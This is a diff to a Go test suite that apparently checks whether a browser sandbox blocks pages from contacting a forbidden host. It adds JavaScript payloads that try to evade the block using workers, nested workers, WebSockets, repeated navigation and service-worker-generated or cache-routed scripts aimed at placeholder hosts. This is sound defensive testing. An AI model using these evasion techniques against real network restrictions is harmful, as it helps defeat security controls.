@@ -27,10 +27,40 @@ type attack struct {
 	page  string // EVIL is the origin of the host that is not allowed, HOST that without a scheme, GOOD the origin of the page
 	quiet bool   // what is refused is not told: the page says in its title that it has tried
 	blind bool   // a browser that we attached to does not let it be kept from the network, see docs/policy.md
+	long  bool   // it takes several documents to try, wherever that is: the last one says in its title that it has tried
 }
 
 // done is what a page does when it has tried.
 const done = `document.title='tried'`
+
+// leaving is a page that starts workers and goes on to another one again and again, sooner or later after the workers: while they are told what
+// they may not.
+func leaving(worker string) string {
+	return `<script>
+		const n = +location.search.slice(1), rounds = 6;
+		for (let i = 0; i < 4; i++) {
+			const w = new Worker("` + worker + `");
+			w.onmessage = w.onerror = () => { if (n >= rounds) ` + done + ` };
+		}
+		onload = () => n < rounds && setTimeout(() => location.search = n + 1, n * 6);
+	</script>`
+}
+
+// served is a page with a worker whose script a service worker makes: made is that script, and script what says so.
+func served(service string) string {
+	return `<script>
+		const made = "const made='w=new WebSocket(\"ws://HOST/\");w.onerror=w.onopen=()=>postMessage(1)',script={headers:{'Content-Type':'text/javascript'}};";
+		const tried = () => ` + done + `;
+		if (navigator.serviceWorker.controller) {
+			const w = new Worker(location.pathname + "/made");
+			w.onmessage = w.onerror = tried;
+		} else navigator.serviceWorker.register("GOOD/js/" + made + "` + service + `", {scope: location.pathname}).then(r => {
+			const s = r.installing || r.waiting || r.active, look = () => s.state == "redundant" ? tried() : s.state == "activated" && location.reload();
+			s.onstatechange = look;
+			look();
+		});
+	</script>`
+}
 
 var attacks = []attack{
 	{name: "image", page: `<img src="EVIL/">`},
@@ -93,6 +123,10 @@ var attacks = []attack{
 	{name: "worker-import", page: `<script>new Worker("GOOD/js/importScripts('EVIL/')")</script>`},
 	{name: "worker-nested", page: `<script>new Worker("GOOD/js/new Worker('GOOD/js/fetch(\"EVIL/\",{mode:\"no-cors\"})')")</script>`},
 	{name: "worker-websocket", page: `<script>w=new Worker("GOOD/js/w=new WebSocket('ws://HOST/');w.onerror=w.onopen=()=>postMessage(1)");w.onmessage=()=>` + done + `</script>`, quiet: true},
+	{name: "worker-leaving", page: leaving(`GOOD/js/w=new WebSocket('ws://HOST/');w.onerror=w.onopen=()=>postMessage(1)`), quiet: true, long: true},
+	{name: "worker-leaving-nested", page: leaving(`GOOD/js/w=new Worker('GOOD/js/w=new WebSocket(\"ws://HOST/\");w.onerror=w.onopen=()=>postMessage(1)');w.onmessage=w.onerror=()=>postMessage(1)`), quiet: true, long: true},
+	{name: "worker-answered", page: served(`onfetch=e=>{if(e.request.destination=='worker')e.respondWith(new Response(made,script))}`), quiet: true, long: true},
+	{name: "worker-routed", page: served(`oninstall=e=>e.waitUntil(caches.open('c').then(c=>c.put('GOOD/attack/worker-routed/made',new Response(made,script))).then(()=>e.addRoutes({condition:{urlPattern:'/attack/worker-routed/made'},source:'cache'})));onfetch=()=>0`), quiet: true, long: true},
 	{name: "shared-worker", page: `<script>new SharedWorker("GOOD/js/fetch('EVIL/',{mode:'no-cors'})")</script>`},
 	{name: "service-worker", page: `<script>navigator.serviceWorker.register("GOOD/js/fetch('EVIL/',{mode:'no-cors'})")</script>`},
 	{name: "service-worker-import", page: `<script>navigator.serviceWorker.register("GOOD/js/importScripts('EVIL/')")</script>`},
@@ -296,7 +330,7 @@ const (
 // hold runs the attacks under rules, and wants none to reach its host. Told: each is to be seen to be tried, by what was refused.
 func (b *battlefield) hold(t *testing.T, sessions int, newClient func(testing.TB) *client, args []string, skip func(attack) bool, told bool) {
 	b.run(t, sessions, newClient, args, skip, func(c *client, a attack) {
-		if !told {
+		if !told && !a.long {
 			return
 		}
 		assert.Eventually(c.t, func() bool {
